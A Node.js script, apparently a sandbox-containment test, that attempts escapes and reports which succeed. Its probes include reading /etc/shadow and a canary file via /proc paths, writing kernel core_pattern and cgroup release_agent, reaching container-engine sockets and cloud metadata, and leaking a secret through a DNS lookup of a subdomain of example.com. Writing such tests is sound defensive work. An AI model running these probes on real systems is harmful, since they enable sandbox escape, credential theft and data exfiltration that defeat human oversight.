// Runs inside a sandbox and tries to get out. Prints one line of JSON an attempt: `out` says what worked, and is null when nothing did.
import { execFileSync, spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import http from "node:http";

const { canary, word, port, addresses, names } = JSON.parse(process.argv[2]);
const tell = (name, out) => fs.writeSync(1, `${JSON.stringify({ name, out: out ?? null })}\n`);

async function attempt(name, act) {
  try {
    const out = await act();
    tell(name, out === undefined || out === false || out === null ? null : String(out).slice(0, 200));
  } catch {
    tell(name, null);
  }
}
const reads = (path) => () => (fs.readFileSync(path, "utf8").includes(word) ? `read ${path}` : undefined);
const writes =
  (path, bytes = "1") =>
  () => (fs.writeFileSync(path, bytes), `wrote ${path}`);
const reaches = (options) => () =>
  new Promise((resolve) => {
    const socket = net.connect({ timeout: 1500, ...options });
    const end = (out) => (socket.destroy(), resolve(out));
    socket.once("connect", () => end(`connected to ${JSON.stringify(options)}`));
    socket.once("error", (error) =>
      end(
        ["ECONNREFUSED"].includes(error.code) &&
          ![
            "127.0.0.1",
            "::1",
            "localhost",
            "0.0.0.0",
            "::",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "::ffff:127.0.0.1",
            undefined,
          ].includes(options.host)
          ? `the host refused ${JSON.stringify(options)}`
          : undefined,
      ),
    );
    socket.once("timeout", () => end(undefined));
  });
const sendsTo = (host, to) => () =>
  new Promise((resolve, reject) => {
    const socket = createSocket(host.includes(":") ? "udp6" : "udp4");
    socket.once("error", reject);
    // That it left is not that it arrived: whoever listens outside counts.
    socket.send(
      word,
      to,
      host,
      (error) => (socket.close(), error ? reject(error) : resolve(host === "127.0.0.1" ? undefined : `sent to ${host}`)),
    );
  });

await attempt("file: by its path", reads(canary));
await attempt("file: through the root of process 1", reads(`/proc/1/root${canary}`));
await attempt("file: through the root of the parent", reads(`/proc/${process.ppid}/root${canary}`));
await attempt("file: up from the working directory", reads(`/proc/self/cwd/../../../../..${canary}`));
await attempt("file: beside what is mounted", reads("/app/../canary.txt"));
await attempt("file: by a link in what is mounted", reads("/app/link.txt"));
await attempt("file: by a link to a folder in what is mounted", reads("/app/up/canary.txt"));
await attempt("file: by a link to the root of the machine", reads(`/app/root${canary}`));
await attempt(
  "file: the machine's accounts",
  () => /root:[$!*]/.test(fs.readFileSync("/etc/shadow", "utf8")) && "read /etc/shadow",
);
await attempt("file: the engine's storage", () => fs.readdirSync("/var/lib/docker").join());
await attempt("file: the owner's home", () => fs.readdirSync("/root").join() || fs.readdirSync("/home").join());
await attempt("write: into what is mounted", writes("/app/new.txt"));
await attempt("write: over what is mounted", writes("/app/inside.txt"));
await attempt("write: a hard link out of what is mounted", () => (fs.linkSync("/app/inside.txt", "/tmp/inside.txt"), "linked"));
await attempt("write: change the mode of what is mounted", () => (fs.chmodSync("/app/inside.txt", 0o777), "changed"));
for (const path of ["/x", "/usr/local/bin/node", "/etc/passwd", "/nika/relay.ts", "/lib/x"])
  await attempt(`write: ${path}`, writes(path));
await attempt("kernel: the program for core dumps", writes("/proc/sys/kernel/core_pattern", "|/tmp/x"));
await attempt("kernel: the program for modules", writes("/proc/sys/kernel/modprobe", "/tmp/x"));
await attempt("kernel: sysrq", writes("/proc/sysrq-trigger", "h"));
await attempt("kernel: live before others when memory ends", writes("/proc/self/oom_score_adj", "-1000"));
await attempt("kernel: its memory", () => fs.readFileSync("/proc/kcore").length > 0 && "read kcore");
await attempt("kernel: its symbols", () => /[1-9a-f]+ [tT] /.test(fs.readFileSync("/proc/kallsyms", "utf8")) && "read kallsyms");
await attempt(
  "kernel: its command line",
  () =>
    /root=|console=/.test(fs.readFileSync("/proc/cmdline", "utf8")) &&
    !/gvisor|runsc/i.test(fs.readFileSync("/proc/version", "utf8")) &&
    "read cmdline",
);
await attempt("kernel: its log", () => fs.readFileSync("/dev/kmsg").length);
await attempt("cgroup: move out of it", () => {
  for (const path of fs.globSync("/sys/fs/cgroup/**/cgroup.procs")) {
    try {
      fs.writeFileSync(path, "1");
      return `wrote ${path}`;
    } catch {}
  }
});
await attempt("cgroup: raise its memory", () => {
  for (const path of fs.globSync("/sys/fs/cgroup/**/memory.{limit_in_bytes,max}")) {
    try {
      fs.writeFileSync(path, "9999999999");
      return `wrote ${path}`;
    } catch {}
  }
});
await attempt("cgroup: release agent", () => {
  for (const path of fs.globSync("/sys/fs/cgroup/**/{release_agent,notify_on_release}")) {
    try {
      fs.writeFileSync(path, "1");
      return `wrote ${path}`;
    } catch {}
  }
});
await attempt("device: disks and memory", () => {
  for (const name of [
    "vda",
    "vda1",
    "sda",
    "sda1",
    "nvme0n1",
    "mem",
    "kmem",
    "port",
    "kvm",
    "fuse",
    "net/tun",
    "vhost-vsock",
    "dri/card0",
  ]) {
    try {
      fs.closeSync(fs.openSync(`/dev/${name}`, "r"));
      return `opened ${name}`;
    } catch {}
  }
});
await attempt("engine: its sockets", async () => {
  for (const path of [
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/var/run/podman/podman.sock",
    "/app/docker.sock",
  ]) {
    const out = await reaches({ path })();
    if (out) return out;
  }
});
await attempt("environment: of the sandbox", () => JSON.stringify(process.env).includes(word) && "it is in ours");
await attempt("environment: of every process", () => {
  for (const id of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    try {
      if (fs.readFileSync(`/proc/${id}/environ`, "utf8").includes(word)) return `it is in that of ${id}`;
    } catch {}
  }
});
await attempt("processes: of the host", () => {
  const all = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  const seen = all.filter((id) => {
    try {
      return /dockerd|containerd|runsc|escape\.ts/.test(fs.readFileSync(`/proc/${id}/cmdline`, "utf8"));
    } catch {
      return false;
    }
  });
  return seen.length > 0 && `sees ${seen.join()}`;
});
await attempt("processes: open files of process 1", () =>
  fs
    .readdirSync("/proc/1/fd")
    .map((fd) => fs.readlinkSync(`/proc/1/fd/${fd}`))
    .find((to) => to.startsWith("/") && !to.startsWith("/dev/")),
);
await attempt(
  "program: run from /tmp",
  () => (fs.writeFileSync("/tmp/run", "#!/usr/local/bin/node\n", { mode: 0o755 }), execFileSync("/tmp/run"), "ran"),
);
await attempt(
  "program: a copy of Node in /tmp",
  () => (
    fs.copyFileSync("/usr/local/bin/node", "/tmp/node"),
    fs.chmodSync("/tmp/node", 0o755),
    execFileSync("/tmp/node", ["-e", ""]),
    "ran"
  ),
);
await attempt("program: become root", () => (process.setuid(0), "is root"));
await attempt("program: change its group", () => (process.setgid(0), "is in the group of root"));
await attempt("program: a shell", () => spawnSync("/bin/sh", ["-c", "id"]).stdout?.toString() || undefined);

for (const host of [
  "127.0.0.1",
  "localhost",
  "::1",
  "0.0.0.0",
  "::",
  "2130706433",
  "0x7f000001",
  "0177.0.0.1",
  "::ffff:127.0.0.1",
  ...addresses,
])
  await attempt(`network: the host as ${host}`, reaches({ host, port }));
for (const host of ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "1.1.1.1", "2606:4700:4700::1111"])
  await attempt(`network: ${host}`, reaches({ host, port: 80 }));
for (const host of ["host.docker.internal", "gateway.docker.internal", ...names])
  await attempt(`network: by name ${host}`, async () => `resolved to ${(await lookup(host)).address}`);
await attempt("network: a name that tells a secret", async () => {
  const resolver = new Resolver({ timeout: 800, tries: 1 });
  resolver.setServers(["8.8.8.8", "1.1.1.1"]);
  return `resolved ${(await resolver.resolve4(`${word}.example.com`)).join()}`;
});
for (const host of [...addresses.filter((address) => !address.includes(":")), "8.8.8.8", "224.0.0.251", "255.255.255.255"])
  await attempt(`network: datagram to ${host}`, sendsTo(host, port));
await attempt("network: an abstract socket of the host", reaches({ path: `\0${word}` }));
await attempt("network: a way out that was not given", async () => {
  const asked = http.get({ host: "127.0.0.1", port: 3128, path: `http://127.0.0.1:${port}/` });
  return new Promise((resolve) => {
    asked.once("error", () => resolve(undefined));
    asked.once("response", (answer) => resolve(answer.statusCode === 200 && "it passed"));
  });
});
process.exit(0);
